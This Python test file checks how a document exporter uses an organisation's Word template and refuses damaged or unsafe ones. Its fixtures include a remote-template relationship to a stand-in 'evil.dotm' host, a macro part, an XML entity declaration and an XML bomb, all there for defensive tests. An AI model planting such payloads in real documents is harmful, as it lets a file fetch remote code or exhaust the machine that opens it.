"""An organisation's own Word template: what of it is used, and which files are none."""

from __future__ import annotations

import io
import zipfile
from typing import Any
from xml.etree import ElementTree

import docx
import pytest
from docx.oxml import parse_xml
from docx.shared import Mm, Pt
from hypothesis import given, settings
from hypothesis import strategies as st

from evidence_library.errors import UserCanFix
from evidence_library.exporters import document_docx, docx_template
from evidence_library.model.document import Layout
from tests.helpers.office_files import check_office_package, parts_of, xml_of
from tests.helpers.sample_document import sample_document

_W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
_RELATIONS = "word/_rels/document.xml.rels"


def template() -> bytes:
    """Make a template with a header, a heading and a body of its own."""
    own = docx.Document()
    own.styles["Heading 1"].font.size = Pt(31)
    own.styles["Normal"].font.size = Pt(12)
    section = own.sections[0]
    section.page_width, section.left_margin = Mm(200), Mm(31)
    section.header.paragraphs[0].text = "Example Council, Safer Streets"
    own.add_paragraph("Words that only explain the template")
    own.core_properties.author = "Somebody else"
    own.core_properties.comments = "internal"
    file = io.BytesIO()
    own.save(file)
    return file.getvalue()


def changed(data: bytes, **parts: bytes) -> bytes:
    """Pack a document anew; each part is named with "__" for "/"."""
    new = {name.replace("__", "/"): content for name, content in parts.items()}
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in {**parts_of_any(data), **new}.items():
            package.writestr(name, content)
    return file.getvalue()


def parts_of_any(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return {name: package.read(name) for name in package.namelist()}


def written(own: bytes, layout: Layout = Layout.A4) -> bytes:
    file = io.BytesIO()
    document_docx.write(sample_document(layout), file, template=own)
    return file.getvalue()


def opened(data: bytes) -> Any:
    return docx.Document(io.BytesIO(data))


def test_styles_headers_and_page_setup_are_those_of_the_template() -> None:
    data = written(template())
    check_office_package(data)
    document = opened(data)
    assert document.styles["Heading 1"].font.size == Pt(31)
    section = document.sections[0]
    assert (round(section.page_width.mm), round(section.left_margin.mm)) == (200, 31)
    assert section.header.paragraphs[0].text == "Example Council, Safer Streets"
    assert "Page " in section.footer.paragraphs[0].text


@pytest.mark.parametrize("counted", [False, True])
def test_the_footer_of_a_template_counts_the_pages(counted: bool) -> None:
    own = docx.Document(io.BytesIO(template()))
    foot = own.sections[0].footer
    foot.paragraphs[0].text = "Example Council, Main Street"
    if counted:
        field = ElementTree.tostring(ElementTree.Element(f"{_W}fldSimple", {f"{_W}instr": "PAGE"}))
        foot.paragraphs[0]._element.append(parse_xml(field))
    file = io.BytesIO()
    own.save(file)
    data = written(file.getvalue())
    check_office_package(data)
    lines = [one.text for one in opened(data).sections[0].footer.paragraphs]
    assert lines[0] == "Example Council, Main Street"
    assert [line for line in lines[1:] if "Page " in line] == ([] if counted else lines[1:])
    assert len(lines) == (1 if counted else 2)


def test_the_words_and_the_maker_of_the_template_are_not_handed_on() -> None:
    whole = b"".join(parts_of(written(template())).values())
    assert b"only explain" not in whole
    assert b"Somebody" not in whole
    assert b"internal" not in whole


def test_what_the_template_lacks_is_added() -> None:
    names = {style.name for style in opened(written(template())).styles}
    assert {"Task box", "For the trainer box title", "Verbatim", "Evidence Table"} <= names


def test_a_template_stays_large_in_large_print() -> None:
    styles = xml_of(parts_of(written(template(), Layout.LARGE_PRINT))["word/styles.xml"])
    sizes = [int(size.get(f"{_W}val", 0)) for size in styles.findall(f".//{_W}rPr/{_W}sz")]
    assert min(sizes) >= 36
    assert max(sizes) >= 31 * 2 * 18 / 12


def test_cards_stand_on_their_own_paper() -> None:
    section = opened(written(template(), Layout.CARDS)).sections[0]
    assert (round(section.page_width.mm), round(section.page_height.mm)) == (105, 148)


def test_a_template_with_the_ending_dotx_is_one() -> None:
    types = parts_of_any(template())["[Content_Types].xml"]
    dotx = types.replace(b"document.main+xml", b"template.main+xml")
    data = written(changed(template(), **{"[Content_Types].xml": dotx}))
    assert data == written(template())


def test_a_template_without_lists_and_settings_will_do() -> None:
    parts = parts_of_any(template())
    relations = xml_of(parts[_RELATIONS])
    for relation in list(relations):
        if relation.get("Type", "").endswith(("/numbering", "/settings", "/theme")):
            relations.remove(relation)
    without = changed(template(), **{_RELATIONS: ElementTree.tostring(relations)})
    data = written(without)
    check_office_package(data)
    assert "List Bullet" in {line.style.name for line in opened(data).paragraphs}


def test_what_a_template_would_fetch_is_left_out() -> None:
    fetched = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/attachedTemplate" Target="http://example.org/evil.dotm" '
        'TargetMode="External"/></Relationships>'
    )
    settings_part = parts_of_any(template())["word/settings.xml"].replace(
        b"<w:zoom",
        b'<w:attachedTemplate r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships"/><w:zoom',
    )
    own = changed(
        template(),
        **{"word/settings.xml": settings_part, "word/_rels/settings.xml.rels": fetched.encode()},
    )
    assert b"evil" not in b"".join(check_office_package(written(own)).values())


_BOMB = b"<w:p/>" * 400_000
_ENTITY = b'<!DOCTYPE a [<!ENTITY b "cccccc">]><a>&b;</a>'


def _no_word_file() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as package:
        package.writestr("a.txt", "text")
    return file.getvalue()


@pytest.mark.parametrize(
    ("own", "says"),
    [
        (b"", "is no Word template"),
        (b"%PDF-1.7 ...", "is no Word template"),
        (_no_word_file(), "is no Word template"),
        (b"\xd0\xcf\x11\xe0" + bytes(600), "locked with a password or of an older Word"),
        (template()[:-4000], "is no Word template"),
        (changed(template(), **{"word/vbaProject.bin": b"x"}), "macros"),
        (changed(template(), **{"word/styles.xml": _ENTITY}), "XML that Word does not write"),
        (changed(template(), **{"word/styles.xml": b"<a>"}), "is damaged"),
        (changed(template(), **{"word/styles.xml": b"<a/>"}), "is damaged"),
        (changed(template(), **{"word/document.xml": b"<a/>"}), "is damaged"),
        (changed(template(), **{_RELATIONS: b"<a/>"}), "is damaged"),
        (changed(template(), **{"word/x.xml": b"<a>" + _BOMB + b"</a>"}), "beyond all measure"),
    ],
    ids=range(12),
)
def test_a_file_that_is_no_template_is_one_sentence_and_nothing_is_written(
    own: bytes, says: str
) -> None:
    file = io.BytesIO()
    with pytest.raises(UserCanFix, match=says):
        document_docx.write(sample_document(), file, template=own)
    assert file.getvalue() == b""


def test_a_template_that_is_too_large_is_not_read() -> None:
    with pytest.raises(UserCanFix, match="larger than 50 MB"):
        docx_template.checked(bytes(docx_template.LARGEST + 1))


_TEMPLATE = template()


@settings(max_examples=15)
@given(st.lists(st.tuples(st.integers(0, len(_TEMPLATE) - 1), st.integers(0, 255)), max_size=4))
def test_a_template_changed_at_random_is_used_or_refused(changes: list[tuple[int, int]]) -> None:
    data = bytearray(_TEMPLATE)
    for at, value in changes:
        data[at] = value
    file = io.BytesIO()
    try:
        document_docx.write(sample_document(), file, template=bytes(data))
    except UserCanFix:
        assert file.getvalue() == b""
